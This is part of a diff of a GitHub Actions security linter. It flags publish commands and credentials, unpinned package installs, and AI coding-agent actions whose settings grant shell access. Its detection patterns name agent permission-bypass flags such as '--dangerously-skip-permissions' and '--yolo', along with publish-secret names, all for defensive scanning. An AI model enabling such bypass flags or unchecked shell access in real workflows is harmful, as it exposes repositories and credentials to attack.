+      return sub === "publish" ? { registry: "crates.io", label: "cargo publish", trusted: true } : null;
+    case "twine":
+      return sub === "upload" ? { registry: "pypi", label: "twine upload", trusted: true } : null;
+    case "uv":
+    case "hatch":
+    case "pdm":
+    case "poetry":
+    case "flit":
+      return sub === "publish" ? { registry: "pypi", label: `${name} publish`, trusted: true } : null;
+    case "maturin":
+      return sub === "publish" || sub === "upload" ? { registry: "pypi", label: `maturin ${sub}`, trusted: true } : null;
+    case "gem":
+      return sub === "push" ? { registry: "rubygems", label: "gem push", trusted: true } : null;
+    case "npm":
+    case "pnpm":
+    case "bun":
+      return sub === "publish" ? { registry: "npm", label: `${name} publish`, trusted: true } : null;
+    case "yarn":
+      if (sub === "publish") return { registry: "npm", label: "yarn publish", trusted: true };
+      return sub === "npm" && sub2 === "publish" ? { registry: "npm", label: "yarn npm publish", trusted: true } : null;
+    case "lerna":
+      return sub === "publish" ? { registry: "npm", label: "lerna publish", trusted: true } : null;
+    case "changeset":
+      return sub === "publish" ? { registry: "npm", label: "changeset publish", trusted: true } : null;
+    case "nuget":
+    case "nuget.exe":
+      return sub === "push" ? { registry: "nuget", label: "nuget push", trusted: true } : null;
+    case "dotnet":
+      return sub === "nuget" && sub2 === "push" ? { registry: "nuget", label: "dotnet nuget push", trusted: true } : null;
+    case "mvn":
+    case "mvnw":
+      return words2.slice(1).some((w2) => w2 === "deploy" || /:deploy$/.test(w2)) ? { registry: "maven", label: "mvn deploy", trusted: false } : null;
+    case "gradle":
+    case "gradlew":
+      return words2.slice(1).some((w2) => /^(:?[\w-]+:)*publish\w*$/i.test(w2)) ? { registry: "maven", label: "gradle publish", trusted: false } : null;
+    case "docker":
+    case "podman":
+      return sub === "push" || sub === "buildx" && words2.includes("--push") || sub === "image" && sub2 === "push" ? { registry: "container", label: `${name} push`, trusted: false } : null;
+    case "gh":
+      return sub === "release" && (sub2 === "create" || sub2 === "upload") ? { registry: "github-release", label: `gh release ${sub2}`, trusted: false } : null;
+    case "goreleaser":
+      return sub === "release" || sub === "" && words2.length === 1 ? { registry: "github-release", label: "goreleaser release", trusted: false } : null;
+    case "vsce":
+    case "ovsx":
+      return sub === "publish" ? { registry: "other", label: `${name} publish`, trusted: false } : null;
+    default:
+      return null;
+  }
+}
+function inlineCredentialArgs(command) {
+  const found = [];
+  const list = args(command);
+  for (let i = 0; i < list.length; i++) {
+    const text = list[i].text;
+    const flag = /^(--token|--password|-p|--api-key|-k|--key|-u|--username|--auth-token|--otp)(=.*)?$/.exec(text);
+    if (flag) found.push(flag[1]);
+  }
+  return found;
+}
+var PUBLISH_SECRET = /PYPI|NPM|TOKEN|PASSWORD|CARGO|RUBYGEMS|NUGET|PUBLISH|DEPLOY|API_KEY/i;
+function publishCredentials(file, job) {
+  if (!job || !file.workflow) return null;
+  if (credentialsCache.has(job)) return credentialsCache.get(job);
+  const result = computePublishCredentials(file, job);
+  credentialsCache.set(job, result);
+  return result;
+}
+var credentialsCache = new AttachedCache("package-credentials", attachmentsOf);
+function computePublishCredentials(file, job) {
+  if (!file.workflow) return null;
+  const secret = secretReferences(file, job.span).find((reference) => PUBLISH_SECRET.test(reference.name));
+  const publishes = job.steps.some((step) => {
+    const action = stepAction(file, step);
+    return action && publisherAction(action.name);
+  }) || runScriptsOf(file, job).some((run2) => run2.script.commands.some((command) => publishCommand(command)));
+  if (!publishes) return null;
+  if (hasIdTokenWrite(file.workflow, job)) return "`id-token: write`";
+  if (secret) return `secret \`${secret.name}\``;
+  return null;
+}
+
+// server/src/rules/adhoc-packages.ts
+var VALUE_OPTIONS = {
+  apt: ["-t", "--target-release", "-o", "--option", "-c", "--config-file"],
+  pip: ["-i", "--index-url", "--extra-index-url", "-f", "--find-links", "-t", "--target", "--prefix", "--root", "--python", "--python-version", "--platform", "--implementation", "--abi", "--src", "--upgrade-strategy", "--progress-bar", "--cache-dir", "--log", "--proxy", "--retries", "--timeout", "--exists-action", "--trusted-host", "--cert", "--client-cert", "--no-binary", "--only-binary", "-C", "--config-settings", "--global-option", "--report"],
+  pipx: ["--python", "--index-url", "-i", "--pip-args", "--suffix", "--spec"],
+  uv: ["-p", "--python", "-i", "--index-url", "--index", "--default-index", "--extra-index-url", "-f", "--find-links", "-t", "--target", "--prefix", "--python-version", "--python-platform", "--index-strategy", "--keyring-provider", "-C", "--config-setting", "--resolution", "--prerelease", "--exclude-newer", "--link-mode", "--cache-dir", "--config-file", "--directory", "--project", "--no-binary", "--only-binary", "-P", "--upgrade-package", "--reinstall-package", "--no-build-package", "--torch-backend", "--from", "--with-requirements", "--with-editable", "--overrides"],
+  npm: ["--registry", "--prefix", "--cache", "--tag", "-w", "--workspace", "-C", "--dir", "--filter", "-F"],
+  gem: ["--source", "-s", "-i", "--install-dir", "-n", "--bindir", "--platform"],
+  go: ["-tags", "-ldflags", "-gcflags", "-mod", "-modfile", "-o"],
+  cargo: ["--root", "--target", "--target-dir", "-F", "--features", "--profile", "-j", "--jobs", "--index", "--registry", "--bin", "--example", "--config", "-Z"],
+  dotnet: ["--tool-path", "--add-source", "--configfile", "--framework", "-a", "--arch", "--verbosity", "-v"],
+  choco: ["-s", "--source", "--params", "--package-parameters", "--install-arguments"]
+};
+var INSTALLERS = /* @__PURE__ */ new Set(["apt-get", "apt", "yum", "dnf", "apk", "brew", "choco", "zypper", "pacman", "pip", "pip3", "pipx", "uv", "npm", "pnpm", "yarn", "bun", "gem", "go", "cargo", "dotnet"]);
+function unversionedInstall(command) {
+  if (!INSTALLERS.has(command.name)) return null;
+  const words2 = command.argv.map((word) => word.text);
+  const name = command.name;
+  const rest = args(command);
+  const valueOptions = VALUE_OPTIONS[name === "apt-get" ? "apt" : name === "pip3" ? "pip" : name === "pnpm" || name === "yarn" || name === "bun" ? "npm" : name] ?? [];
+  const after = (index) => rest.slice(index).filter((word, i, words3) => {
+    if (word.text.startsWith("-") || word.text.includes("$")) return false;
+    const previous = i > 0 ? words3[i - 1].text : "";
+    return !valueOptions.includes(previous);
+  });
+  const hasAny = (...flags) => rest.some((word) => flags.includes(word.text) || flags.some((flag) => word.text.startsWith(`${flag}=`)));
+  switch (name) {
+    case "apt-get":
+    case "apt":
+      if (words2[1] !== "install") return null;
+      return { manager: name, packages: after(1).filter((word) => !word.text.includes("=") && !/\.deb$/.test(word.text)), system: true };
+    case "yum":
+    case "dnf":
+    case "apk":
+    case "brew":
+    case "choco":
+    case "zypper":
+    case "pacman": {
+      const verb = name === "apk" ? "add" : name === "pacman" ? "-S" : "install";
+      if (words2[1] !== verb) return null;
+      if (name === "choco" && hasAny("--version")) return null;
+      return { manager: name, packages: after(1).filter((word) => !/[=@]|-\d/.test(word.text)), system: true };
+    }
+    case "pip":
+    case "pip3":
+    case "pipx":
+      if (words2[1] !== "install") return null;
+      if (hasAny("-r", "--requirement", "-e", "--editable", "--require-hashes", "-c", "--constraint")) return null;
+      return { manager: name, packages: after(1).filter((word) => !/[=<>~!@]|^\.|\/|\.whl$|\.tar\.gz$/.test(word.text)), system: false };
+    case "uv":
+      if (words2[1] === "pip" && words2[2] === "install") {
+        if (hasAny("-r", "--requirement", "-e", "--editable", "--require-hashes", "-c", "--constraint")) return null;
+        return { manager: "uv pip", packages: after(2).filter((word) => !/[=<>~!@]|^\.|\//.test(word.text)), system: false };
+      }
+      if (words2[1] === "tool" && words2[2] === "install") return { manager: "uv tool", packages: after(2).filter((word) => !/[=<>~!@]|^\.|\//.test(word.text)), system: false };
+      return null;
+    case "npm":
+    case "pnpm":
+    case "yarn":
+    case "bun": {
+      const verb = words2[1];
+      const global = hasAny("-g", "--global") || name === "yarn" && verb === "global";
+      const adds = verb === "add" || verb === "global" && words2[2] === "add" || (verb === "install" || verb === "i") && (name === "npm" || name === "bun" || global);
+      if (!adds) return null;
+      const from = verb === "global" ? 2 : 1;
+      return { manager: `${name}${global ? " -g" : ""}`, packages: after(from).filter((word) => !/^@?[^@]+@.+/.test(word.text) && !/^[./]|^file:|^git|\.tgz$/.test(word.text)), system: false };
+    }
+    case "gem":
+      if (words2[1] !== "install" || hasAny("-v", "--version")) return null;
+      return { manager: "gem", packages: after(1).filter((word) => !word.text.includes(":")), system: false };
+    case "go":
+      if (words2[1] !== "install" && words2[1] !== "get") return null;
+      return { manager: `go ${words2[1]}`, packages: after(1).filter((word) => !/@(v?\d|[0-9a-f]{7,})/.test(word.text) && !/^\.\.?(\/|$)/.test(word.text)), system: false };
+    case "cargo":
+      if (words2[1] !== "install" || hasAny("--version", "--vers", "--path", "--git", "--rev", "--tag")) return null;
+      return { manager: "cargo", packages: after(1).filter((word) => !word.text.includes("@")), system: false };
+    case "dotnet":
+      if (words2[1] !== "tool" || words2[2] !== "install" || hasAny("--version")) return null;
+      return { manager: "dotnet tool", packages: after(2), system: false };
+    default:
+      return null;
+  }
+}
+var REGULAR_MANAGERS = /^(gem|bundle|npm|yarn|pnpm|bun)\b/;
+var adhocPackages = {
+  id: "adhoc-packages",
+  title: "Package installed at run time without a version",
+  kinds: ["workflow", "action"],
+  severity: "low",
+  confidence: "high",
+  persona: "pedantic",
+  online: false,
+  docs: {
+    summary: "A `run:` step installs packages by name with no version (`apt-get install`, `pip install`, `npm install -g`, `gem install`, `go install …@latest`, `cargo install`), so each run takes whatever the registry serves that minute.",
+    why: "An unpinned install is the moment a compromised release reaches you. In LiteLLM (2026, PYSEC-2026-2) the job holding the PyPI credential ran an unpinned `apt-get install trivy` hours after Trivy's release channel was taken over (CVE-2026-33634); the scanner stole the credential and malicious LiteLLM versions followed. Shai-Hulud (2025) spread through `npm install` of freshly published worm versions.",
+    fix: "Pin every package (`pip install ruff==0.6.9`, `npm install -g pnpm@9.12.0`, `go install golang.org/x/tools/cmd/goimports@v0.26.0`, `gem install bundler -v 2.5.22`, `apt-get install jq=1.7.1-3`), better with hashes (`pip install --require-hashes -r requirements.txt`), or use a lock file (`npm ci`, `uv sync --locked`). Keep such installs out of jobs that hold publish credentials."
+  },
+  check({ file, report }) {
+    for (const run2 of runScripts(file)) {
+      let credentials;
+      for (const command of run2.script.commands) {
+        const install = unversionedInstall(command);
+        if (!install || install.packages.length === 0) continue;
+        if (credentials === void 0) credentials = publishCredentials(file, run2.job);
+        const names = install.packages.map((word) => `\`${word.text}\``);
+        const span = run2.sourceSpan({ start: install.packages[0].span.start, end: install.packages[install.packages.length - 1].span.end });
+        report({
+          span,
+          message: `\`${install.manager}\` installs ${names.slice(0, 4).join(", ")}${names.length > 4 ? "…" : ""} without a version${credentials ? `, in a job holding publish credentials (${credentials})` : ""}: every run takes whatever the registry serves`,
+          severity: credentials ? "medium" : "low",
+          persona: credentials || REGULAR_MANAGERS.test(install.manager) ? "regular" : "pedantic",
+          confidence: "high"
+        });
+      }
+    }
+  }
+};
+
+// server/src/knowledge/action-lookup.ts
+function lowerTarget(owner, repo, path) {
+  return `${owner}/${repo}${path ? `/${path}` : ""}`.toLowerCase();
+}
+function findAction(table, owner, repo, path) {
+  const full = lowerTarget(owner, repo, path);
+  const base2 = lowerTarget(owner, repo, null);
+  return table.find((entry) => entry.action === full) ?? table.find((entry) => entry.action === base2);
+}
+
+// server/src/knowledge/agent-actions.ts
+var SHELL_AGENT = "it is a coding agent with a shell";
+var AGENT_ACTIONS = [
+  {
+    action: "anthropics/claude-code-action",
+    promptInputs: ["prompt", "direct_prompt", "override_prompt", "custom_instructions", "claude_args", "system_prompt", "append_system_prompt"],
+    openAccessInputs: ["allowed_non_write_users", "allowed_bots"],
+    toolInputs: ["allowed_tools", "claude_args", "settings"],
+    gated: true,
+    tools: "limited",
+    toolsWhy: "by default it edits files and runs git commands",
+    tagMode: true,
+    sources: [
+      { file: "action.yml", commit: "103450edd930c700b0f2776f5466ca0d890ba3ee" },
+      { file: "action.yml", commit: "008284398f9706427970c06a406d9ebd6a1cecfa" },
+      { file: "src/entrypoints/run.ts", commit: "01fbf36bba6bc8685f4adae2f698beb218ec198c" },
+      { file: "src/github/validation/permissions.ts", commit: "0085208689431bbb354d99a595ef3687a8579f08" },
+      { file: "src/modes/detector.ts", commit: "0478993f8ca1d5fc2e5b669bebb55316bf1ec9c7" },
+      { file: "src/modes/tag/index.ts", commit: "09163babdc85cc88fb4a25bf78fd1b556433a68c" },
+      { file: "src/modes/agent/index.ts", commit: "0edbe188537bd908a0a8a9fc46c000f9312e0136" }
+    ]
+  },
+  {
+    action: "anthropics/claude-code-base-action",
+    promptInputs: ["prompt", "system_prompt", "append_system_prompt"],
+    openAccessInputs: [],
+    toolInputs: ["allowed_tools", "claude_args", "settings"],
+    gated: false,
+    tools: "none",
+    toolsWhy: "by default it allows no edit or shell tool, so it only reads files",
+    tagMode: false,
+    sources: [
+      { file: "action.yml", commit: "005f1e447474821b1349e3a009dcefe91df03f98" },
+      { file: "action.yml", commit: "8208cd1dcb43ec256c6d3ac42f343998dccabd55" },
+      { file: "src/parse-sdk-options.ts", commit: "433d8156ab8f2c9ea48f770fbe8b97f9b5438006" },
+      { file: "src/run-claude.ts", commit: "03d620fb6efba6b8a805f4ad6b03213048e58524" }
+    ]
+  },
+  {
+    action: "openai/codex-action",
+    // v1 spelt some inputs with underscores (`codex_args`, `safety_strategy`, `allow_bots`) and could skip its
+    // write-access check with `require_repo_write: false`.
+    promptInputs: ["prompt", "codex-args", "codex_args"],
+    openAccessInputs: ["allow-users", "allow-bots", "allow-bot-users", "allow_bots", "require_repo_write"],
+    toolInputs: ["sandbox", "safety-strategy", "safety_strategy", "codex-args", "codex_args", "permission-profile"],
+    gated: true,
+    tools: "limited",
+    toolsWhy: "by default it runs commands in a workspace sandbox",
+    tagMode: false,
+    sources: [
+      { file: "action.yml", commit: "0006efa62261ffd5c7bb5131ff06a84cf849ed1c" },
+      { file: "action.yml", commit: "c25c0044c719c55ce70bd35625ff9d40c8e199bc" },
+      { file: "src/checkActorPermissions.ts", commit: "2ab995e616515d214e6bbff0c66310822251d673" }
+    ]
+  },
+  {
+    action: "google-github-actions/run-gemini-cli",
+    promptInputs: ["prompt"],
+    openAccessInputs: [],
+    toolInputs: ["settings"],
+    gated: false,
+    tools: "shell",
+    toolsWhy: "it runs `gemini --yolo`, which approves every tool, `run_shell_command` included, unless `settings` lists the core tools or excludes `run_shell_command`",
+    tagMode: false,
+    sources: [
+      { file: "action.yml", commit: "8625910245fcc63a80f91cb677009073a5e13459" },
+      { file: "action.yml", commit: "0434cc5d3ee434057dab5ad830056a46906e886d" },
+      { file: "google-gemini/gemini-cli:docs/cli/configuration.md", commit: "175b3a1f3b3a9719b59d154baacf483b2e477c2b" },
+      { file: "google-gemini/gemini-cli:docs/trust-guidance.md", commit: "27a6f892f1ddfc1a58d6effb9cb0a78554bdfc49" }
+    ]
+  },
+  {
+    action: "actions/ai-inference",
+    promptInputs: ["prompt", "system-prompt"],
+    openAccessInputs: [],
+    toolInputs: ["enable-github-mcp"],
+    gated: false,
+    tools: "none",
+    toolsWhy: "it only returns text",
+    tagMode: false,
+    sources: [{ file: "action.yml", commit: "6d144ac4747eb0bccee71c4746c3029357be1633" }]
+  },
+  { action: "github/copilot-swe-agent", promptInputs: ["prompt"], openAccessInputs: [], toolInputs: [], gated: false, tools: "shell", toolsWhy: SHELL_AGENT, tagMode: false, sources: [] },
+  {
+    action: "warpdotdev/warp-agent-action",
+    promptInputs: ["prompt"],
+    openAccessInputs: [],
+    toolInputs: [],
+    gated: false,
+    tools: "shell",
+    toolsWhy: SHELL_AGENT,
+    tagMode: false,
+    sources: [
+      { file: "action.yml", commit: "0362b73c621875dd1d45f1ef9a4f5c0447dcd7cf" },
+      { file: "src/index.ts", commit: "25615cf7b4b369d6e7657c2b73695e5075d4722b" },
+      { file: "README.md", commit: "0445aa77ed3568d78d02869ea16146c40d7d86f2" }
+    ]
+  },
+  { action: "cursor/cursor-agent-action", promptInputs: ["prompt"], openAccessInputs: [], toolInputs: [], gated: false, tools: "shell", toolsWhy: SHELL_AGENT, tagMode: false, sources: [] }
+];
+function agentActionFor(owner, repo, path) {
+  return findAction(AGENT_ACTIONS, owner, repo, path);
+}
+
+// server/src/knowledge/agents/readings.ts
+function withValue(step, name) {
+  const entry = step.with.entries.find((candidate) => candidate.key.toLowerCase() === name.toLowerCase());
+  if (!entry) return null;
+  const text = scalarText(entry.value);
+  return text === null ? null : { text, entry };
+}
+function quoteList(items) {
+  return items.map((item) => `\`${item}\``).join(", ");
+}
+function readingOf(effect) {
+  return { effects: effect ? [effect] : [] };
+}
+function genericEffect(name, key, text, span) {
+  const input2 = `\`${key}\``;
+  if (/--dangerously-skip-permissions|bypassPermissions|--dangerously-bypass-approvals-and-sandbox|--yolo\b|"yolo"\s*:\s*true/i.test(text)) return { level: "shell", why: `${input2} turns off permission checks`, span, bypass: true };
+  if (/danger-full-access/i.test(text)) return { level: "shell", why: `${input2} is \`danger-full-access\``, span };
+  if ((name === "safety-strategy" || name === "safety_strategy") && /^\s*unsafe\s*$/i.test(text)) return { level: "shell", why: `\`${key}: unsafe\``, span };
+  if (/\bBash\b(?!\s*\()|\bBash\(\s*(?:\*\s*)?\)|\brun_shell_command\b(?!\s*\()|"ShellTool"/.test(text)) return { level: "shell", why: `${input2} allows any shell command (\`Bash\`)`, span, shellTool: true };
+  if (/\bBash\s*\(|\brun_shell_command\s*\(/.test(text)) return { level: "limited", why: `${input2} allows some shell commands`, span, shellTool: true };
+  if (/\b(Write|Edit|MultiEdit)\b|\bacceptEdits\b|workspace-write|enable-github-mcp|^\s*true\s*$/.test(text)) return { level: "limited", why: `${input2} allows tools`, span };
+  return null;
+}
+function namedUsersWhy(shown, text) {
+  const entries = text.split(",").map((user) => user.trim()).filter((user) => user !== "");
+  const users = entries.filter((user) => user !== "*");
+  const who = users.length === 0 ? "lets no one" : `lets only ${users.length === 1 ? "the user" : "the users"} ${quoteList(users)}`;
+  const wildcardLike = entries.includes("*") || users.some((user) => /^(all|everyone|anyone)$/i.test(user));
+  return `${shown} ${who} skip the write-access check; everyone else still needs write access${wildcardLike ? " (only the whole value `'*'` means everyone)" : ""}`;
+}
+
+// server/src/knowledge/agents/settings-json.ts
+function jsonObject(text) {
+  const trimmed = text.trim();
+  if (!trimmed.startsWith("{")) return null;
+  try {
+    const value = JSON.parse(replaceExpressionFences(trimmed, "0"));
+    return value !== null && typeof value === "object" && !Array.isArray(value) ? value : null;
+  } catch {
+    return null;
+  }
+}
+function objectAt(value) {
+  return value !== null && typeof value === "object" && !Array.isArray(value) ? value : null;
+}
+function stringsAt(value) {
+  return Array.isArray(value) ? value.filter((item) => typeof item === "string").map((item) => item.trim()) : null;
+}
+function valueAfterKey(text, key, opener) {
+  const needle = `"${key}"`;
+  for (let at = text.indexOf(needle); at !== -1; at = text.indexOf(needle, at + 1)) {
+    let i = at + needle.length;
+    while (i < text.length && /\s/.test(text[i])) i++;
+    if (text[i] !== ":") continue;
+    i++;
+    while (i < text.length && /\s/.test(text[i])) i++;
+    if (text[i] === opener) return i + 1;
+  }
+  return -1;
+}
+function looseList(text, key) {
+  const start = valueAfterKey(text, key, "[");
+  if (start === -1) return null;
+  const close = text.indexOf("]", start);
+  if (close === -1) return null;
+  return quotedStrings(text.slice(start, close)).map((item) => item.trim());
+}
+var isLineBreak = (ch) => ch === "\n" || ch === "\r" || ch === "\u2028" || ch === "\u2029";
+function quotedStrings(text) {
+  const found = [];
+  let from = 0;
+  for (; ; ) {
+    const open = text.indexOf('"', from);
+    if (open === -1) return found;
+    let i = open + 1;
+    while (i < text.length && text[i] !== '"') {
+      if (text[i] !== "\\") i++;
+      else if (i + 1 < text.length && !isLineBreak(text[i + 1])) i += 2;
+      else break;
+    }
+    if (i < text.length && text[i] === '"') {
+      found.push(text.slice(open + 1, i));
+      from = i + 1;
+    } else {
+      from = Math.max(i, open + 1);
+    }
+  }
+}
+function looseString(text, key) {
+  const start = valueAfterKey(text, key, '"');
+  if (start === -1) return null;
+  const close = text.indexOf('"', start);
+  return close === -1 ? null : text.slice(start, close);
+}
+
+// server/src/knowledge/agents/claude.ts
+var CLAUDE_ACTIONS = /* @__PURE__ */ new Set(["anthropics/claude-code-action", "anthropics/claude-code-base-action"]);
+function shellWords(text) {
+  const words2 = [];
+  let word = "";
+  let started = false;
+  let quote2 = null;
+  for (const ch of text) {
+    if (quote2 !== null) {
+      if (ch === quote2) quote2 = null;
+      else word += ch;
+    } else if (ch === '"' || ch === "'") {
+      quote2 = ch;
+      started = true;
+    } else if (/\s/.test(ch)) {
+      if (started) words2.push(word);
+      word = "";
+      started = false;
+    } else {
+      word += ch;
+      started = true;
+    }
+  }
+  if (started) words2.push(word);
+  return words2;
+}
+var COMMENT_LINE = /^[ \t]*#.*$/gm;
+function closingQuote(text, open) {
+  const quote2 = text[open];
+  for (let i = open + 1; i < text.length; i++) {
+    if (text[i] === "\\" && text[i + 1] === quote2) i++;
+    else if (text[i] === quote2) return i;
+  }
+  return -1;
+}
+function shellQuoteWords(text) {
+  const source = text.replace(COMMENT_LINE, (line) => " ".repeat(line.length));
+  const words2 = [];
+  let word = "";
+  let start = -1;
+  let glob = false;
+  const finish = (at, beforeParen = false) => {
+    if (start >= 0 && !glob) words2.push({ text: word, end: at, beforeParen });
+    word = "";
+    start = -1;
+    glob = false;
+  };
+  for (let i = 0; i < source.length; i++) {
+    const ch = source[i];
+    if (source.startsWith("${{", i)) {
+      const close = source.indexOf("}}", i);
+      const stop = close < 0 ? source.length : close + 2;
+      if (start < 0) start = i;
+      word += source.slice(i, stop);
+      i = stop - 1;
+    } else if (/\s/.test(ch)) finish(i);
+    else if ("|&;()<>".includes(ch)) finish(i, ch === "(");
+    else if (ch === "#") {
+      finish(i);
+      break;
+    } else if (ch === '"' || ch === "'") {
+      const close = closingQuote(source, i);
+      if (close < 0) continue;
+      if (start < 0) start = i;
+      const inner = source.slice(i + 1, close);
+      word += ch === "'" ? inner : inner.replace(/\\(["\\$])/g, "$1");
+      i = close;
+    } else {
+      if (start < 0) start = i;
+      if (ch === "\\") {
+        const next = source[i + 1];
+        if (next === void 0 || next === "\n" || next === "\r") continue;
+        if (next === "*" || next === "?") glob = true;
+        word += next;
+        i++;
+      } else {
+        if (ch === "*" || ch === "?") glob = true;
+        word += ch;
+      }
+    }
+  }
+  finish(source.length);
+  return words2;
+}
+function toolList(values) {
+  const tools = [];
+  for (const value of values) {
+    let depth = 0;
+    let current = "";
+    for (const ch of value) {
+      if (ch === "(") depth++;
+      else if (ch === ")") depth = Math.max(0, depth - 1);
+      if (depth === 0 && (ch === "," || /\s/.test(ch))) {
+        if (current.trim()) tools.push(current.trim());
+        current = "";
+      } else current += ch;
+    }
+    if (current.trim()) tools.push(current.trim());
+  }
+  return tools;
+}
+var BARE_BASH = /^Bash(\(\s*(?:\*\s*)?\))?$/;
+function readClaudeSettings(key, text, span) {
+  const settings = jsonObject(text);
+  const loose = settings === null && text.trim().startsWith("{");
+  if (!settings && !loose) return { effects: [] };
+  const permissions = settings ? objectAt(settings.permissions) : null;
+  const allow = (settings ? stringsAt(permissions?.allow) : looseList(text, "allow")) ?? [];
+  const deny = (settings ? stringsAt(permissions?.deny) : looseList(text, "deny")) ?? [];
+  const modeValue = settings ? permissions?.defaultMode : looseString(text, "defaultMode");
+  const mode = typeof modeValue === "string" ? modeValue : null;
+  const input2 = `\`${key}\``;
+  const effects = [];
+  const anyBash = allow.filter((tool) => BARE_BASH.test(tool));
+  const someBash = allow.filter((tool) => /^Bash\s*\(/.test(tool) && !BARE_BASH.test(tool));
+  const edits = allow.filter((tool) => /^(Write|Edit|MultiEdit|NotebookEdit)\b/.test(tool));
+  if (anyBash.length > 0) effects.push({ level: "shell", why: `${input2} allows any shell command (${quoteList(anyBash)} in \`permissions.allow\`)`, span, shellTool: true });
+  if (someBash.length > 0) effects.push({ level: "limited", why: `${input2} allows some shell commands (${quoteList(someBash)} in \`permissions.allow\`)`, span, shellTool: true });
+  if (edits.length > 0) effects.push({ level: "limited", why: `${input2} allows file edits (${quoteList(edits)} in \`permissions.allow\`)`, span });
+  if (mode === "bypassPermissions") effects.push({ level: "shell", why: `${input2} sets \`permissions.defaultMode: bypassPermissions\`, which turns off permission checks`, span, bypass: true });
+  else if (mode === "acceptEdits") effects.push({ level: "limited", why: `${input2} sets \`permissions.defaultMode: acceptEdits\`, which approves file edits`, span });
+  const deniedBash = deny.find((tool) => BARE_BASH.test(tool));
+  const shellDenied = deniedBash ? { why: `${input2} denies \`${deniedBash}\` (\`permissions.deny\`)`, span, left: ", so it runs no shell command" } : void 0;
+  return { effects, shellDenied };
+}
+function claudeArgsSplit(ref2) {
+  const name = (ref2 ?? "").trim();
+  if (/^(v1|main)$/i.test(name)) return "keeps";
+  if (/^(v0(\.\d+)*|beta)$/i.test(name)) return "drops";
+  const version2 = /^v?(\d+)\.(\d+)\.(\d+)$/.exec(name);
+  if (!version2) return "unknown";
+  const [major, minor, patch] = version2.slice(1).map(Number);
+  return major > 1 || major === 1 && (minor > 0 || patch >= 149) ? "keeps" : "drops";
+}
+function cutBash(text, word) {
+  if (!word.beforeParen || word.text.split(",").pop().trim() !== "Bash") return null;
+  const close = text.indexOf(")", word.end);
+  const lineEnd = text.indexOf("\n", word.end);
+  const stop = close >= 0 && (lineEnd < 0 || close < lineEnd) ? close + 1 : word.end + 1;
+  return `Bash${text.slice(word.end, stop)}`;
+}
+function plainBareBash(word) {
+  const tools = word.text.split(",");
+  return tools.some((tool, index) => BARE_BASH.test(tool.trim()) && !(word.beforeParen && index === tools.length - 1));
+}
+function splitDenied(words2, emptyEndsFlag) {
+  const kept = [];
+  const denied = [];
+  const inline = [];
+  for (let i = 0; i < words2.length; i++) {
+    const match = /^--disallowed-?tools(?:=(.*))?$/i.exec(words2[i]);
+    if (!match) {
+      kept.push(i);
+      continue;
+    }
+    if (match[1] !== void 0) inline.push(match[1]);
+    else if (emptyEndsFlag && words2[i + 1] === "") continue;
+    else while (i + 1 < words2.length && !words2[i + 1].startsWith("--")) denied.push(++i);
+  }
+  return { kept, denied, inline };
+}
+function readClaudeArgs(name, key, text, span, ref2) {
+  const split = claudeArgsSplit(ref2);
+  const at = ref2 ? `\`@${ref2}\`` : "this reference";
+  const dropped = shellQuoteWords(text);
+  const droppedParts = splitDenied(dropped.map((word) => word.text), true);
+  const cutAllowed = droppedParts.kept.map((index) => cutBash(text, dropped[index])).filter((tool) => tool !== null);
+  if (split === "drops") {
+    const kept = droppedParts.kept.map((index) => dropped[index]);
+    const denied2 = droppedParts.denied.map((index) => dropped[index]);
+    let effect2 = genericEffect(name, key, kept.map((word) => word.text).join(" "), span);
+    if (effect2?.shellTool && effect2.level === "shell" && cutAllowed.length > 0 && !kept.some(plainBareBash)) {
+      effect2 = {
+        ...effect2,
+        why: `\`${key}\` allows any shell command: releases before v1.0.149 (this step uses ${at}) split \`claude_args\` like a shell and drop unquoted parentheses, so ${quoteList(cutAllowed)} reaches Claude as a bare \`Bash\`; write it quoted, \`"${cutAllowed[0]}"\``
+      };
+    }
+    const deniedBash2 = toolList([...denied2.map((word) => word.text), ...droppedParts.inline]).find((tool) => BARE_BASH.test(tool));
+    let shellDenied2;
+    if (deniedBash2) {
+      const cut = denied2.map((word) => cutBash(text, word)).filter((tool) => tool !== null);
+      const why = cut.length > 0 && !denied2.some(plainBareBash) && !droppedParts.inline.some((value) => toolList([value]).some((tool) => BARE_BASH.test(tool))) ? `\`${key}\` denies \`Bash\` (\`--disallowedTools\`): releases before v1.0.149 (this step uses ${at}) drop the unquoted parentheses of ${quoteList(cut)}, so the whole shell is denied` : `\`${key}\` denies \`${deniedBash2}\` (\`--disallowedTools\`)`;
+      shellDenied2 = { why, span, left: ", so it runs no shell command" };
+    }
+    return { effects: effect2 ? [effect2] : [], shellDenied: shellDenied2 };
+  }
+  const uncommented = text.replace(COMMENT_LINE, "");
+  const words2 = shellWords(uncommented);
+  const parts = splitDenied(words2, false);
+  const denied = [...parts.denied.map((index) => words2[index]), ...parts.inline];
+  let effect = genericEffect(name, key, denied.length === 0 ? uncommented : parts.kept.map((index) => words2[index]).join(" "), span);
+  if (split === "unknown" && effect?.shellTool && effect.level === "limited" && cutAllowed.length > 0) {
+    effect = {
+      ...effect,
+      why: `${effect.why}, but ${at} cannot be dated: releases before v1.0.149 drop the unquoted parentheses of ${quoteList(cutAllowed)} and so allow any shell command; write it quoted, \`"${cutAllowed[0]}"\``
+    };
+  }
+  const deniedBash = toolList(denied).find((tool) => BARE_BASH.test(tool));
+  const shellDenied = deniedBash ? { why: `\`${key}\` denies \`${deniedBash}\` (\`--disallowedTools\`)`, span, left: ", so it runs no shell command" } : void 0;
+  return { effects: effect ? [effect] : [], shellDenied };
+}
+function readClaudeToolInput(name, key, text, span, ref2) {
+  if (name === "settings") return readClaudeSettings(key, text, span);
+  if (name === "claude_args") return readClaudeArgs(name, key, text, span, ref2);
+  return null;
+}
+function readClaudeNonWriteUsers(step, key, text, span) {
+  const token = withValue(step, "github_token");
+  if (token === null || token.text.trim() === "") return null;
+  if (text === "*") return { open: true, why: `\`${key}: '*'\` with \`github_token\` given lets anyone trigger it`, span };
+  if (text !== "" && !text.includes("${{")) return { open: false, why: namedUsersWhy(`\`${key}: ${text}\` with \`github_token\` given`, text), span };
+  return null;
+}
+
+// server/src/knowledge/agents/codex.ts
+var CODEX_ACTION = "openai/codex-action";
+function readCodexProfile(key, text, span, home) {
+  const profile = text.trim();
+  if (profile === "" || profile.includes("${{")) return { effects: [] };
+  const shown = `\`${key}: '${profile}'\``;
+  if (profile === ":read-only") return { base: { level: "none", why: `${shown} lets the commands it runs read files but not write them or reach the network`, span }, effects: [] };
+  if (profile === ":workspace") return { effects: [{ level: "limited", why: `${shown} lets the commands it runs write inside the workspace`, span }] };
